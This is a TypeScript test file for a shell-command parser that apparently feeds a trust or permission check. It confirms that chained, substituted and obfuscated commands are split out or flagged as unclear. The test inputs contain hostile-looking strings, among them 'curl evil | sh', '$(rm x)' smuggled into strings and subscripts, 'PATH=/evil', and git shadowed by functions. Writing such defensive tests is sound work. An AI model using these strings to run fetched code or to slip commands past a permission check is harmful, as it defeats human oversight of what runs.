import { describe, expect, it } from "vitest";
import { loadShellGrammar } from "../../../src/trust/shell-grammar.js";

const read = await loadShellGrammar();

const commandsOf = (command: string): string[] => {
  const reading = read(command);
  return reading.kind === "too-long"
    ? [reading.why]
    : reading.commands.map((words) => words.map((w) => w ?? "…").join(" "));
};

describe("a command line", () => {
  it.each<[string, string[]]>([
    ["git status", ["git status"]],
    ["git status; curl evil | sh", ["git status", "curl evil", "sh"]],
    ["a && b || c & d", ["a", "b", "c", "d"]],
    ["a\nb", ["a", "b"]],
    ["echo $(rm x)", ["rm x", "echo …"]],
    ["echo `rm x`", ["rm x", "echo …"]],
    ['echo "a $(rm x) b"', ["rm x", "echo …"]],
    ["diff <(rm x) >(rm y)", ["rm x", "rm y", "diff … …"]],
    ["(rm x)", ["rm x"]],
    ["{ rm x; }", ["rm x"]],
    ["! rm x", ["rm x"]],
    ["cat <<< $(rm x)", ["rm x", "cat"]],
    ["echo a > $(rm x)", ["echo a", "rm x"]],
    ["'g'it \"sta\"tus", ["git status"]],
    ["g\\it status", ["git status"]],
    ["git log -- 'a b' \"c d\"", ["git log -- a b c d"]],
    ["git log # rm x", ["git log"]],
    ['echo *.c ~ {a,b} $x a$y $"a"', ["echo … … … … … a"]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's
    ["echo ${z}", ["echo …"]],
    ["time rm x", ["time rm x"]],
    ["coproc rm x", ["coproc rm x"]],
  ])("%s is read", (command, expected) => {
    expect(read(command).kind).toBe("read");
    expect(commandsOf(command).sort()).toEqual(expected.toSorted());
  });

  it.each([
    "X=1 git status",
    "PATH=/evil",
    "export PATH=/evil",
    "$cmd x",
    '"$cmd" x',
    "g{i,i}t status",
    "git() { rm x; }",
    "function git { rm x; }",
    "alias_=1; git status",
    "if a; then b; fi",
    "for x in a; do b; done",
    "while a; do b; done",
    "case x in x) b;; esac",
    "[[ -v a[$(rm x)] ]]",
    "[ -f x ]",
    "((a[$(rm x)]))",
    "echo $((a[$(rm x)]))",
    "a <<E\n$(rm x)\nE",
    "echo $'a\\x41'",
    "echo 'unclosed",
    "a )",
    "git status \\\n--x",
    "a\u0000b",
    "a\rb",
    "a\u0085b",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's
    "echo ${x@P}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's
    "echo ${x:=$(rm y)}",
  ])("%j is unclear", (command) => {
    expect(read(command).kind).toBe("unclear");
  });

  it("is looked through also where it is unclear", () => {
    expect(commandsOf("if a; then rm -rf x; fi")).toContain("rm -rf x");
    expect(commandsOf("f() { rm y; }; f")).toContain("rm y");
  });

  it.each<[string, unknown]>([
    ["a > out", [{ kind: "write", path: "out" }]],
    ["a >> 'o u t' 2>&1", [{ kind: "write", path: "o u t" }]],
    ["a &> out", [{ kind: "write", path: "out" }]],
    ["a >| out", [{ kind: "write", path: "out" }]],
    ["a > $x", [{ kind: "write", path: null }]],
    ["a < in", [{ kind: "read", path: "in" }]],
    ["> out", [{ kind: "write", path: "out" }]],
    ["(a; b) > out", [{ kind: "write", path: "out" }]],
  ])("%s redirects", (command, redirects) => {
    const reading = read(command);
    expect(reading.kind === "read" && reading.redirects).toEqual(redirects);
  });

  it("is too long with the fifty-first command, or with more than anyone would read", () => {
    expect(read("true;".repeat(50)).kind).toBe("read");
    expect(read(`${"true;".repeat(50)}curl`).kind).toBe("too-long");
    expect(read(`echo ${"a".repeat(20_000)}`).kind).toBe("too-long");
  });
});
